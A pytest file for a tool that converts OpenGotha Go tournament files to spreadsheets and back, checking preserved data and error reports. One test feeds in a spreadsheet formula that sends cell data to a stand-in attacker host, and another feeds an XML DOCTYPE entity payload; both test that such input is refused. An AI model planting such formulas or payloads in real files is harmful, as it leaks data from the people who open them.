"""OpenGotha files to workbooks and back (formats.opengotha.convert), continued
(``test_opengotha_convert``): rarer file contents kept through a workbook, and files
and workbooks that cannot be imported or exported, every problem reported at once."""

from __future__ import annotations

from pathlib import Path

import pytest
from openpyxl import load_workbook
from support.books import sheet_rows
from support.opengotha import NOW, export, imported_book, read_fixture, small

from gosheet import records
from gosheet.core.errors import InputError
from gosheet.core.model import Game, Player, Result, Tournament
from gosheet.core.pairing import Pairing
from gosheet.core.results import ALL_CODES, CANONICAL, parse_result
from gosheet.core.settings import Settings
from gosheet.formats.opengotha.convert import OG_RESULTS, from_opengotha
from gosheet.formats.opengotha.export import to_opengotha
from gosheet.formats.opengotha.xml import (
    GAME_RESULTS,
    OGBye,
    OGElement,
    OGGame,
    OGPlayer,
    OGTournament,
    read_opengotha,
    write_opengotha,
)
from gosheet.workbook.sheets.writer import round_sheet
from gosheet.workbook.template import new_book
from gosheet.workbook.xlsx.book import XlsxBook


def dated(og: OGTournament) -> OGTournament:
    """``og`` as an export at :data:`NOW` writes it: saved then (``saveDT``)."""
    return records.replace(og, attributes=og.attributes | {"saveDT": NOW.strftime("%Y%m%d%H%M%S")})


# --------------------------------------------------------------- rarer file contents


def test_every_opengotha_result_code(tmp_path: Path) -> None:
    assert set(OG_RESULTS.values()) == set(GAME_RESULTS)
    keys = ["LEEANN", "KIMBO", "ITOYU", "SATOJO"]
    games = []
    for n, code in enumerate(GAME_RESULTS):
        r, t = divmod(n, 2)
        white, black = keys[2 * t], keys[2 * t + 1]
        games.append(OGGame(r + 1, t + 1, white, black, result=code))
    og = small(
        games=tuple(games),
        parameters={
            **small().parameters,
            "GeneralParameterSet": {"numberOfRounds": "6", "komi": "6.5", "name": "Small"},
        },
    )
    back = export(imported_book(og, tmp_path / "cup.xlsx"))
    assert [g.result for g in back.games] == list(GAME_RESULTS)
    codes = [row[7] for row in sheet_rows(tmp_path / "cup.xlsx", "Round 1")[1:]]
    assert codes == [None, "1-0"]
    assert {parse_result(c) for c in ALL_CODES} == set(Result)
    assert set(CANONICAL) < set(ALL_CODES) and "1-1" not in CANONICAL


def test_unknown_attributes_and_elements_are_kept(tmp_path: Path) -> None:
    og = read_fixture("notsimplemm")
    first, second, third, fourth, *others = og.players
    players = (
        records.replace(first, extra={**first.extra, "grade": "", "nickname": "A&B <x>"}),
        records.replace(second, registering_status="PRE", participating="0" * 20),
        records.replace(third, participating="101"),  # not OpenGotha's 20 characters
        records.replace(fourth, egf_pin="12345678", smms_correction=-1),
        *others,
    )
    clubs = OGElement(
        "ClubsGroups",
        children=(
            OGElement("ClubsGroup", (("name", "Sud"),), (OGElement("Club", (("name", "13Ma"),)),)),
        ),
    )
    teams = OGElement("Teams", children=(OGElement("Team", (("teamName", "Ü"),)),))
    note = OGElement("Note", (("lang", "fr"),), text="Été")
    category = OGElement("Category", (("lowerLimit", "2K"), ("number", "1")))
    general = og.parameters["GeneralParameterSet"]
    games = list(og.games)
    games[0] = records.replace(games[0], known_color=False, extra={"clock": "1:00"})
    byes = list(og.byes)
    byes[0] = records.replace(byes[0], extra={"why": "odd"})
    og = records.replace(
        og,
        players=players,
        games=tuple(games),
        byes=tuple(byes),
        parameters={
            **og.parameters,
            "GeneralParameterSet": {**general, "numberOfCategories": "2", "futureOption": "x"},
            "PairingParameterSet": {
                **og.parameters["PairingParameterSet"],
                "paiSePreferMMSDiffRatherThanSameClubsGroup": "2",
            },
            "FutureParameterSet": {"a": "1"},
            "EmptyParameterSet": {},
        },
        parameter_children={
            "GeneralParameterSet": (OGElement("Categories", children=(category,)), note),
            "PlacementParameterSet": (OGElement("Tiebreak", (("x", "1"),)),),
        },
        extra=(teams, *og.extra, clubs),
    )
    og = read_opengotha(write_opengotha(og))  # as a file holds it
    book = imported_book(og, tmp_path / "cup.xlsx")
    back = export(book)
    assert back == dated(og)
    assert write_opengotha(back) == write_opengotha(dated(og))
    # Teams go before TournamentParameterSet, as OpenGotha writes them
    text = write_opengotha(back).decode()
    assert text.index("<Teams>") < text.index("<TournamentParameterSet>")
    assert text.index("<TournamentParameterSet>") < text.index("<ClubsGroups>")
    assert from_opengotha(og).tournament.settings.opengotha.categories == (-2,)
    rows = sheet_rows(book, "Players")
    pre = rows[2]
    assert pre[rows[0].index("Registration")] == "PRE"
    assert pre[rows[0].index("Not playing")] == "1, 2, 3, 4, 5"
    assert rows[4][rows[0].index("EGD PIN")] == "12345678"


def test_a_sparse_file_gets_what_opengotha_always_writes(tmp_path: Path) -> None:
    og = small(games=(OGGame(1, 1, "LEEANN", "KIMBO", result="RESULT_WHITEWINS"),))
    back = export(imported_book(og, tmp_path / "cup.xlsx"))
    assert back.games == og.games and back.attributes == dated(og).attributes
    assert back.players[0].extra == {
        "agaExpirationDate": "",
        "agaId": "",
        "ffgLicenceStatus": "",
        "grade": "3K",
        "ratingOrigin": "",
    }
    shape = read_fixture("simplemm")
    for name in ("HandicapParameterSet", "PairingParameterSet"):
        assert set(back.parameters[name]) == set(shape.parameters[name])
    assert "DPParameterSet" not in back.parameters  # the file had none: OpenGotha's defaults


def test_a_long_element_is_kept_over_several_rows(tmp_path: Path) -> None:
    teams = OGElement(
        "Teams",
        children=tuple(
            OGElement("Team", (("teamName", f"Team {i:05d} " + "x" * 40), ("teamNumber", str(i))))
            for i in range(1, 1500)
        ),
    )
    og = read_fixture("simplemm")
    og = read_opengotha(write_opengotha(records.replace(og, extra=(teams, *og.extra))))
    book = imported_book(og, tmp_path / "cup.xlsx")
    rows = [r for r in sheet_rows(book, "OpenGotha") if r[0] == "XML"]
    assert len(rows) >= 4 and all(len(r[3]) <= 30_000 for r in rows)
    assert rows[1][2] == "Teams (continued)"
    assert export(book) == dated(og)


# ------------------------------------------------------------------ bad files, bad books


def test_what_gosheet_cannot_hold_is_reported_at_once() -> None:
    og = small(
        players=(
            *small().players,
            OGPlayer(name="LEE", first_name="ann", rank="35K", rating=9000, smms_correction=12),
            OGPlayer(name="Odd", first_name="One", rank="1D", rating=2000, registering_status="X"),
        ),
        games=(
            OGGame(1, 1, "LEEANN", "KIMBO", 10),
            OGGame(1, 1, "ITOYU", "SATOJO"),
            OGGame(3, 1, "ITOYU", "SATOJO"),
        ),
        parameters={
            **small().parameters,
            "GeneralParameterSet": {
                "numberOfRounds": "3",
                "komi": "six",
                "name": "Small",
                "genMMBar": "4X",
            },
            "PairingParameterSet": {"paiMaSeedSystem1": "SHUFFLE"},
        },
        placement_criteria=("NULL", "XYZ"),
    )
    with pytest.raises(InputError) as caught:
        from_opengotha(og, source="cup.xml")
    found = {(p.cell, p.value): p.message for p in caught.value.problems}
    assert all(p.sheet == "cup.xml" for p in caught.value.problems)
    assert "cannot tell this player from Player 1" in found[("Player 5", "LEE ann")]
    assert ("Player 5", 9000) in found
    # a rank beyond 30K is read as OpenGotha reads it (30K), and a round without games
    # before one with games is kept as OpenGotha keeps it: neither is a problem
    assert ("Player 5", "35K") not in found and ("round 2", None) not in found
    assert ("Player 5", 12) in found
    assert ("Player 6", "X") not in found  # not FIN: read as PRE, as OpenGotha pairs it
    assert "handicap" in found[("Game 1", 10)]
    assert "same table of round 1 as Game 1" in found[("Game 2", 1)]
    assert "Komi" in found[("GeneralParameterSet", "six")]
    assert "McMahon bar" in found[("GeneralParameterSet", "4X")]
    # a seed system OpenGotha does not know is its default to it, and so to gosheet
    assert ("PairingParameterSet", "SHUFFLE") not in found
    assert "XYZ" in found[("PlacementParameterSet", "NULL, XYZ")]


def test_formulas_and_overlong_values_are_refused(tmp_path: Path) -> None:
    og = read_fixture("simplemm")
    first, second, *others = og.players
    og = records.replace(
        og,
        players=(
            records.replace(first, club='=HYPERLINK("http://evil.example/"&A1)'),
            records.replace(second, extra={**second.extra, "ratingOrigin": "=1+1"}),
            *others,
        ),
        attributes={**og.attributes, "note": "x" * 40_000},
    )
    with pytest.raises(InputError) as caught:
        from_opengotha(og, source="cup.xml")
    found = {(p.cell, p.message) for p in caught.value.problems}
    assert found == {
        ("Player 1", "club starts with '=': it would be a spreadsheet formula, so it is refused"),
        (
            "Player Fiorina Baptiste",
            "ratingOrigin starts with '=': it would be a spreadsheet formula, so it is refused",
        ),
        ("Tournament", "note is longer than a cell holds (32767)"),
    }


def test_a_tournament_naming_nobody() -> None:
    og = small(games=(OGGame(1, 1, "LEEANN", "GHOST"),), byes=(OGBye("NOBODY", 1),))
    with pytest.raises(InputError) as caught:
        from_opengotha(og)
    assert [(p.cell, p.value) for p in caught.value.problems] == [
        ("Game 1", "GHOST"),
        ("Bye 1", "NOBODY"),
    ]


def test_two_clubs_of_the_same_code_are_told(tmp_path: Path) -> None:
    players = (
        Player(1, "Lee", "Ann", rank=-3, club="Kazan"),
        Player(2, "Kim", "Bo", rank=1, club="Kazakh Go"),
        Player(3, "Ito", "Yu", rank=2, club="Kazan"),
    )
    new_book(Settings(), players).save(tmp_path / "cup.xlsx")
    notes: list[str] = []
    back = to_opengotha(XlsxBook.open(tmp_path / "cup.xlsx").grids(), now=NOW, notes=notes)
    assert notes == [
        "Kazan → Kaza",
        "Kazakh Go → Kaza (as Kazan: OpenGotha takes them for one club)",
    ]
    assert {p.club for p in back.players} == {"Kaza"}


def test_a_bad_opengotha_sheet_is_reported_with_its_cells(tmp_path: Path) -> None:
    og = read_fixture("notsimplemm")
    book = imported_book(og, tmp_path / "cup.xlsx")
    workbook = load_workbook(book)
    ws = workbook["OpenGotha"]
    start = ws.max_row + 1
    ws.append(["Nonsense", None, "a", "b"])
    ws.append(["Tournament", None, "bad name", "x"])
    ws.append(["Tournament", None, "saveDT", "again"])
    ws.append(["Game", "third game", "x", "1"])
    ws.append(["Games", None, "sequence", "1.1"])
    ws.append(["XML", "Tournament", "Evil", '<!DOCTYPE x [<!ENTITY e "e">]><x a="&e;"/>'])
    ws.append(["XML", "Tournament", "Broken", "<x>"])
    ws.append(["XML", "Tournament", "Other (continued)", "<y/>"])
    ws.append(["XML", "Nowhere", "Z", "<z/>"])
    ws.append(["XML", "Tournament", "Players", '<Players><Player name="X"/></Players>'])
    ws.append(["Player", None, "grade", "3K"])
    workbook["Players"]["C2"] = "3x"  # and a problem of the Players sheet, with the others
    workbook.save(book)
    with pytest.raises(InputError) as caught:
        export(book)
    where = {(p.sheet, p.cell) for p in caught.value.problems}
    rows = range(start, start + 11)
    expected = {
        ("OpenGotha", f"A{rows[0]}"),
        ("OpenGotha", f"C{rows[1]}"),
        ("OpenGotha", f"C{rows[2]}"),
        ("OpenGotha", f"B{rows[3]}"),
        ("OpenGotha", f"C{rows[4]}"),
        ("OpenGotha", f"D{rows[5]}"),
        ("OpenGotha", f"D{rows[6]}"),
        ("OpenGotha", f"C{rows[7]}"),
        ("OpenGotha", f"B{rows[8]}"),
        ("OpenGotha", f"D{rows[9]}"),
        ("OpenGotha", f"B{rows[10]}"),
        ("Players", "C2"),
    }
    assert where == expected, caught.value
    text = str(caught.value)
    assert "DOCTYPE" in text and "set twice" in text and "unknown section" in text
    assert "holds <Player>" in text and "needs its Key" in text


def test_what_opengotha_cannot_hold_is_reported_at_export(tmp_path: Path) -> None:
    settings = Settings.preset("mcmahon", rounds=21)
    players = (
        Player(1, "Lee", "Ann", rank=-3),
        Player(2, "Lee A", "nn", rank=-2),  # OpenGotha's key drops the space: LEEANN
        Player(3, "Kim", rank=1, country="Korea"),
        Player(4, "Ito", "Yu", rank=2),
    )
    book = new_book(settings, players)
    t = Tournament(settings, players)
    book.render(round_sheet(t, Pairing(1, (Game(1, 3, 4),), (1, 2))))
    book.save(tmp_path / "cup.xlsx")
    with pytest.raises(InputError) as caught:
        export(tmp_path / "cup.xlsx")
    found = {(p.sheet, p.cell): p.message for p in caught.value.problems}
    assert "at most 20 rounds" in found[("Settings", "B6")]
    assert "LEEANN" in found[("Players", "A3")] and "row 2" in found[("Players", "A3")]
    assert "first name" in found[("Players", "B4")]
    assert "two-letter country" in found[("Players", "F4")]
    assert "one bye a round" in found[("Round 1", "")]
    assert len(found) == 5
